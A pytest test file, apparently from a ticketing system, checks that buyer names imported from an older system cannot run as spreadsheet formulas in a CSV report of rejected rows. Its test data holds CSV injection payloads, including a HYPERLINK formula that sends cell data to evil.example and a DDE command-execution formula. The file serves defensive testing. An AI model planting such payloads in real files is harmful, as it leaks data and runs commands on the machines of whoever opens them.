"""A buyer is called like a formula: it runs in the spreadsheet of whoever opens a file with the name."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from kassa.core.spreadsheets import SEPARATORS
from tests.importers.old_system import OldSystem

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",
)
LIVE = ("=", "+", "-", "@", "\uff1d")


def live_cells(text: str, separator: str) -> list[str]:
    """Return the cells of a file that a spreadsheet computes."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=separator)
    return [cell for row in rows for cell in row if cell.lstrip().startswith(LIVE)]


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("formula", FORMULAS)
def test_name_in_a_report_is_no_formula(
    transactional_db: None, tmp_path: Path, formula: str, separator: str
) -> None:
    old = OldSystem(tmp_path)
    rows = [old.ticket("T1", last_name=formula, status="lost")]
    path = tmp_path / "old.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), delimiter=separator)
        writer.writeheader()
        writer.writerows(rows)
    # The name is live in a file that is written without the guard, as the older system's was.
    assert live_cells(path.read_text("utf-8"), separator) == [formula]

    assert old.import_file("tickets", path) == (0, 0, 1)

    report = (tmp_path / "old.rejected.csv").read_text("utf-8")
    assert formula.replace('"', '""') in report
    assert live_cells(report, separator) == []
